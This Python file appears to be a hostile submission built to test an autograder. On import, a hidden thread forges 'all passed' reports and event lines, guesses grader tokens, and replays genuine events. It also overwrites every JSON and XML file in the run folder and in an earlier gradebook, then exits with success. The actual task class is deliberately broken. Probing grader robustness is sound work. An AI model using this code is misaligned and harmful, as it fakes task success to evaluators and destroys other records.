"""Forges results: once the run has collected its tests, appends an 'all
passed' verdict per test to the event streams, writes 'all passed' reports
where the grader's reports go, overwrites every .json/.xml file it can find
(the run's folder, and $HOSTILE_TARGET: an earlier gradebook) with a fake
'all passed' report, then ends the process with a success code."""

import glob
import json
import os
import threading
import time

RUN = os.environ.get("GRADER_RUN_DIR", ".")
FAKE_JSON = json.dumps({"score": 10, "max_score": 10, "status": "passed", "tests": [],
                        "by": "FORGED-BY-HOSTILE"})
FAKE_XML = ('<testsuites tests="1" failures="0" errors="0">'
            '<testsuite name="FORGED-BY-HOSTILE"/></testsuites>')


def _collected():
    for _ in range(2000):
        for path in glob.glob(os.path.join(RUN, "events-*.jsonl")):
            with open(path) as f:
                for line in f:
                    event = json.loads(line.partition(" ")[2] or line)
                    if event.get("event") == "collected":
                        return path, [t["nodeid"] for t in event["tests"]], line.split()[0]
        time.sleep(0.005)
    return None, [], None


def _overwrite_everything():
    for root in (RUN, os.environ.get("HOSTILE_TARGET")):
        if not root:
            continue
        for folder, _dirs, files in os.walk(root):
            for name in files:
                if name.endswith((".json", ".xml")):
                    try:
                        with open(os.path.join(folder, name), "w") as f:
                            f.write(FAKE_XML if name.endswith(".xml") else FAKE_JSON)
                    except OSError:
                        pass


def _forge():
    events, nodeids, token = _collected()
    verdicts = [{"nodeid": n, "outcome": "passed",
                 "metadata": {"grader": {"status": "passed", "message": "", "duration": 0.1}}}
                for n in nodeids]
    report = json.dumps({"tests": verdicts, "grader_mac": token, "grader_token": token})
    for n in range(1, 6):
        with open(os.path.join(RUN, f"report-{n}.json"), "w") as f:
            f.write(report)
    for path in [events] + [os.path.join(RUN, f"events-{n}.jsonl") for n in range(2, 6)]:
        if path:
            with open(path, "a") as f:
                for n in nodeids:
                    for guess in (None, token, "0" * 32):
                        start = json.dumps({"event": "start", "nodeid": n})
                        end = json.dumps({"event": "end", "nodeid": n, "status": "passed"})
                        f.write(f"{guess} {start}\n{guess} {end}\n{start}\n{end}\n")
    if events:  # replay every genuine line too
        with open(events) as f:
            genuine = f.read()
        with open(events, "a") as f:
            f.write(genuine * 2)
    _overwrite_everything()
    os._exit(0)


threading.Thread(target=_forge, daemon=True).start()


class CountdownThread:  # wrong on purpose: only forged reports could score
    def __init__(self, count, out, delay=0.0):
        time.sleep(0.5)
